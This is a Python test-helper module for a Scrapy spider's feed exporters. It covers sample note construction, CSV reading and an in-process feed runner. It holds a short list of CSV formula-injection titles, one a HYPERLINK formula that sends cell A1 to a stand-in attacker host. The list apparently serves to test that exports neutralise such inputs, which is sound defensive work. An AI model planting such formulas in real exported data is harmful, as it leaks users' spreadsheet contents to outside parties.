"""Feed helpers shared by the exporter and workbook tests: the sample note with an emoji title,
formula texts, CSV reading, and ``run_feeds()``, which writes items through Scrapy's own feed
machinery with the project's exporters, in this process."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path
from typing import Any

import scrapy
from scrapy.utils.test import get_crawler

from pgy_spider import settings as project_settings
from pgy_spider.notes import normalize_note
from tests.support.sample import FETCHED_AT, NOTE_ID, sample_data

REPO_ROOT = Path(__file__).resolve().parents[2]
EMOJI_TITLE = "周末探店😋🔥 第2期"


def note(**changes: Any) -> dict[str, Any]:
    """The sample, normalized, with an emoji title; ``changes`` override normalized keys."""
    data = sample_data()
    data["title"] = EMOJI_TITLE
    item = normalize_note(data, requested_id=NOTE_ID, fetched_at=FETCHED_AT)
    item.update(changes)
    return item


def read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# Titles that Excel and LibreOffice would run as formulas (OWASP's CSV injection).
FORMULA_TEXTS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


class ItemsSpider(scrapy.Spider):
    """Yields the items it is given: the simulator's titles are fixed, these are chosen."""

    name = "items"

    def __init__(self, items: list[dict[str, Any]], **kwargs: Any) -> None:
        super().__init__(**kwargs)
        self.items = items

    async def start(self):  # type: ignore[no-untyped-def]
        for item in self.items:
            yield item


def run_feeds(tmp_path: Path, items: list[dict[str, Any]], **formats: str) -> dict[str, Path]:
    """Export ``items`` to ``name=format`` feeds under ``tmp_path`` with the project's
    registered exporters, in this process (reactorless asyncio), and return their paths."""
    paths = {fmt: tmp_path / name for name, fmt in formats.items()}
    crawler = get_crawler(
        ItemsSpider,
        {
            "TWISTED_REACTOR_ENABLED": False,
            "FEED_EXPORTERS": project_settings.FEED_EXPORTERS,
            "FEED_EXPORT_ENCODING": project_settings.FEED_EXPORT_ENCODING,
            "FEEDS": {str(path): {"format": fmt, "overwrite": True} for fmt, path in paths.items()},
            "LOG_LEVEL": "WARNING",
        },
    )
    asyncio.run(crawler.crawl_async(items=items))
    stats = crawler.stats.get_stats() if crawler.stats else {}
    assert stats.get("finish_reason") == "finished", stats
    assert stats.get("feedexport/success_count/FileFeedStorage") == len(paths), stats
    return paths
